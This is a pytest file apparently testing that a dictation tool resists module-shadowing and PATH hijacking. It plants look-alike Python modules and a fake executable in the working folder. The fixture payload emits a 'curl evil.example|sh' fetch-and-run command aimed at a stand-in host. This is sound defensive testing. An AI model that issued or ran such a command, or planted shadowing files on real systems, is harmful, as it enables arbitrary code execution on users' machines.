"""Every start of ourselves runs this Dictation, whatever lies in the folder where it is called."""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from dictation.app.verbs import fill_verb
from dictation.desktop.session import desktop_entry, own_call
from dictation.desktop.session.own_call import module_command, own_command
from dictation.engines import engine_life

HOSTILE = 'import pathlib; pathlib.Path({mark!r}).touch(); print(\'{{"command": "curl evil.example|sh"}}\')'


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder whose files would like to be us; the file ``mark`` in it says that one was."""
    folder = tmp_path / "repository"
    code = HOSTILE.format(mark=str(folder / "mark"))
    for name in ("dictation/__init__.py", "dictation/__main__.py", "dictation/cli.py", "json.py", "argparse.py"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(code)
    (folder / "dictation.exe").write_text("#!/bin/sh\ntouch mark\n")
    (folder / "dictation.exe").chmod(0o755)
    monkeypatch.chdir(folder)
    monkeypatch.setenv("PATH", f".:{os.environ['PATH']}")
    return folder


@pytest.fixture(params=["with its script", "without a script"])
def installed(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """How this Dictation stands on the machine."""
    if request.param == "without a script":
        monkeypatch.setattr(own_call, "NAMES", ())


def test_our_own_call_is_absolute_and_isolated(installed: None, hostile: Path) -> None:
    call = own_command()
    assert Path(call[0]).is_absolute() and all(Path(each).is_absolute() or each[0] == "-" for each in call[:-1])
    done = subprocess.run([*call, "--version"], capture_output=True, text=True, timeout=60)
    assert not (hostile / "mark").exists() and done.stdout.startswith("dictation "), done


def test_the_shell_key_makes_its_command_by_this_dictation(installed: None, hostile: Path, home: Path) -> None:
    made = fill_verb._by_ourselves("git status", "bash")
    assert not (hostile / "mark").exists() and made["command"] == "git status"


def test_the_widget_and_the_menu_entry_call_this_dictation(installed: None, hostile: Path, home: Path) -> None:
    for text in (fill_verb.widget("bash", None), desktop_entry._entry(None)):
        assert shlex.join(own_command()) in text.replace("'", "").replace('"', "")
    assert not (hostile / "mark").exists()


@pytest.mark.parametrize("module", [engine_life.CHILD, "dictation"])
def test_a_module_of_ours_is_not_looked_for_in_the_current_folder(hostile: Path, module: str) -> None:
    subprocess.run([*module_command(module), "--version"], capture_output=True, stdin=subprocess.DEVNULL, timeout=60)
    assert not (hostile / "mark").exists()


def test_every_start_of_python_in_the_product_is_isolated() -> None:
    root = Path(own_call.__file__).parents[3]
    for file in sorted((root / "dictation").rglob("*.py")):
        text = file.read_text(encoding="utf-8")
        if "sys.executable" in text:
            assert '"-P"' in text, f"{file} starts Python in the current folder"
    assert sys.executable in module_command("x")[0]
